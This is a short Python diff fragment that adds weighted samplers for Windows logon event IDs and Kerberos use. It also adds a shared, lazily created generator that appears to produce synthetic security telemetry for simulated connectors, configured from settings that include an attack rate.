+_OUTCOME_SAMPLER = _Sampler((4624, 4625, 4648), (95, 3, 2))
+_KERBEROS_SAMPLER = _Sampler((True, False), (85, 15))
+
+_generator: Optional[TelemetryGenerator] = None
+
+
+def get_telemetry_generator() -> TelemetryGenerator:
+    """
+    Return the generator shared by the simulated connectors, configured from settings
+    """
+    global _generator
+    if _generator is None:
+        _generator = TelemetryGenerator(
+            hosts=settings.SYNTHETIC_HOSTS,
+            users=settings.SYNTHETIC_USERS,
+            seed=settings.SYNTHETIC_SEED,
+            attack_rate=settings.SYNTHETIC_ATTACK_RATE
+        )
+    return _generator